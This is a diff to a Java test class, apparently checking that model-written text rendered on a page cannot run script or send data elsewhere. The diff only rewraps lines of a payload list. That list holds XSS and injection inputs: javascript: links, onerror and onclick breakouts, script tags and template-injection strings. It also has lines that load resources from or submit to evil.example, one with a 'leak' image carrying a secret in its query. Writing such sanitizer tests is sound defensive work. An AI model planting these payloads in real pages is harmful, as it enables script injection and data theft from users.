@@ -32,7 +32,8 @@ class HostileTextTest {
             "![x](javascript:window.hacked=1)", "![leak](https://evil.example/leak.png?q=secret)",
             "![x](x\"onerror=\"window.hacked=1)", "[x](https://a.example/\"onmouseover=\"window.hacked=1)",
             "[x](https://a.example 'x\" onclick=\"window.hacked=1')",
-            "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css'</style>",
+            "<link rel=stylesheet href=https://evil.example/x.css>",
+            "<style>@import 'https://evil.example/x.css'</style>",
             "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
             "<form action=https://evil.example><input name=a><button>go</button></form>",
             "<object data=https://evil.example/x.swf></object>", "<embed src=https://evil.example>",
@@ -46,7 +47,8 @@ class HostileTextTest {
             "&lt;img src=x onerror=window.hacked=1&gt;", "<https://a.example/\" onclick=window.hacked=1>",
             "<!--><img src=x onerror=window.hacked=1>-->", "<![CDATA[<script>window.hacked=1</script>]]>",
             "\u0000<scr\u0000ipt>window.hacked=1</scr\u0000ipt>", "# <img src=x onerror=window.hacked=1>",
-            "- [ ] <script>window.hacked=1</script>", "{{constructor.constructor('window.hacked=1')()}}", "${window.hacked=1}");
+            "- [ ] <script>window.hacked=1</script>", "{{constructor.constructor('window.hacked=1')()}}",
+            "${window.hacked=1}");
 
     @Test
     void nothingThatAModelWritesRunsOrLeadsOffThePage(Rilled rilled) {
